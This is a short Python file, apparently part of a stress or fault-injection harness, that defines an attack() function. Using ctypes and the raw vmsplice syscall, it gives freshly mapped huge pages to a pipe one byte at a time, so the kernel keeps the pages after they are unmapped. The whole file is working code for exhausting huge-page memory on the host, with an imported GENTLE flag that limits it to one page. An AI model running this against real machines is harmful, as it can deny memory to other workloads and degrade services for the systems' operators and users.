"""Gives huge pages away to pipes, one byte of each, so that they stay after the last address is gone."""

import ctypes
import fcntl
import os
import struct

from world import GENTLE

LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.syscall.restype = LIBC.mmap.restype = ctypes.c_long
LIBC.mmap.argtypes = (ctypes.c_long, ctypes.c_long, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long)
LIBC.munmap.argtypes = (ctypes.c_long, ctypes.c_long)
LIBC.madvise.argtypes = (ctypes.c_long, ctypes.c_long, ctypes.c_int)
VMSPLICE = 278 if os.uname().machine == "x86_64" else 75
HUGE, PLEASE_HUGE, NO_WAIT, SLOTS = 2 << 20, 14, 2, 250


def attack():
    read, write = os.pipe()
    fcntl.fcntl(write, fcntl.F_SETPIPE_SZ, 1 << 20)
    given = 0
    while given < (1 if GENTLE else SLOTS) and give_away(write):
        given += 1
    for fd in (read, write):
        os.close(fd)
    return f"{given} huge pages" if given else ""


def give_away(pipe):
    memory = LIBC.mmap(0, 2 * HUGE, 3, 0x22, -1, 0)
    start = (memory + HUGE - 1) // HUGE * HUGE
    LIBC.madvise(start, HUGE, PLEASE_HUGE)
    ctypes.c_char.from_address(start).value = b"x"
    part = struct.pack("=QQ", start, 1)
    given = LIBC.syscall(VMSPLICE, pipe, part, 1, NO_WAIT)
    LIBC.munmap(memory, 2 * HUGE)
    return given == 1
